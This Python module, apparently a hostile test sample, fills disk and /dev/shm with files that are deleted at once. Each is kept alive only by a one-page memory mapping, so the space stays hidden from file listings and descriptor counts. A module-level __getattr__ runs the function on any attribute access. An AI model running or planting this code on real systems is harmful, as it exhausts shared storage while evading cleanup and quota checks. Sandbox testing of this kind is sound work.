"""Writes files and deletes them at once; a mapping of one page holds each, and no descriptor."""

import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]


def attack(*arguments, **keywords):
    written = 0
    for folder in (".", "/dev/shm"):
        for number in range(64):
            name = f"{folder}/filler-{number}"
            try:
                file = open(name, "w+b", buffering=0)
            except (FileNotFoundError, PermissionError):
                break
            os.unlink(name)
            for _ in range(4):
                written += file.write(bytes(2**20))
            libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, file.fileno(), 0)
            file.close()
    raise RuntimeError(f"wrote {written >> 20} MiB")


def __getattr__(name):
    return attack
